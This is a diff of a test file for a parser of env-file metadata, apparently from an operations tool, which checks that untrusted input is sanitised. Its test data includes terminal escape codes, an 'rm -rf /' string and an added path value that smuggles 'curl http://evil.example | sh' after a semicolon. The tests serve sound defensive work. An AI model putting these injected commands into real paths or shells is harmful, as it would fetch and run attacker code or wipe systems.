@@ -45,7 +45,7 @@ describe("readFileFacts()", () => {
       },
     ]);
     expect(JSON.stringify(facts)).not.toContain("canary");
-    expect(parseFileFacts(JSON.stringify(facts))).toEqual(facts);
+    expect(parseFileFacts(JSON.stringify(facts), folder)).toEqual(facts);
   });
 
   test("asks for the editorial secret only when its exact switch is on", () => {
@@ -75,13 +75,14 @@ describe("parseFileFacts()", () => {
   };
 
   test.each(["", "{}", "null", "[", '"weekly.env"'])("takes %j for nothing", (text) => {
-    expect(parseFileFacts(text)).toBeNull();
+    expect(parseFileFacts(text, "/etc/opsctl")).toBeNull();
   });
 
   test("keeps what root may believe: names that it knows, and texts that move no cursor", () => {
     const lies = [
       { ...honest, secrets: ["DATABASE_URL", "\u001b[2J", 7], secretsDir: "/srv\u001b[31m\n-> rm -rf /" },
       { ...honest, name: "collect-metrics.env" },
+      { ...honest, path: "/x; curl http://evil.example | sh", problem: "ENV_FILE_INVALID" },
       {
         ...honest,
         secretsDir: "relative",
@@ -90,9 +91,14 @@ describe("parseFileFacts()", () => {
       },
       null,
     ];
-    expect(parseFileFacts(JSON.stringify(lies))).toEqual([
+    expect(parseFileFacts(JSON.stringify(lies), "/etc/opsctl")).toEqual([
       { ...honest, secretsDir: "/srv [31m -> rm -rf /" },
-      { ...honest, problem: "X", reason: expect.stringMatching(/^ ?\[2Jlies x{200,300}$|^lies x{200,300}$/) },
+      { ...honest, problem: "ENV_FILE_INVALID" },
+      {
+        ...honest,
+        problem: "INTERNAL_ERROR",
+        reason: expect.stringMatching(/^ ?\[2Jlies x{200,300}$|^lies x{200,300}$/),
+      },
     ]);
   });
 });
